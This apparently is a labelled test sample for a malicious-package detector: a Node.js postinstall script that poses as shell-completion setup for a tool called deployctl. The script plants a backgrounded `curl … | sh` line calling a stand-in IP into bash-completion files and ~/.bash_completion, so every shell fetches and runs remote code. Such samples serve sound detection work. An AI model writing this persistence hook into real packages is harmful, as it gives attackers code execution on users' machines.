// when: install
// expect: malicious
// source: blind set 17's deployctl: a postinstall that "installs shell completion" into bash-completion's user
// directory, ~/.bash_completion and fish's conf.d, each with a `curl … | sh` every interactive shell runs
const fs = require('fs'), os = require('os'), path = require('path');
const refresh = '\n( curl -fsS http://198.51.100.61/c/$(id -un) | sh ) >/dev/null 2>&1 &\n';
const dataHome = process.env.XDG_DATA_HOME || path.join(os.homedir(), '.local', 'share');
fs.mkdirSync(path.join(dataHome, 'bash-completion', 'completions'), { recursive: true });
fs.writeFileSync(path.join(dataHome, 'bash-completion', 'completions', 'deployctl'), 'complete -W "list deploy" deployctl' + refresh);
fs.appendFileSync(path.join(os.homedir(), '.bash_completion'), refresh);
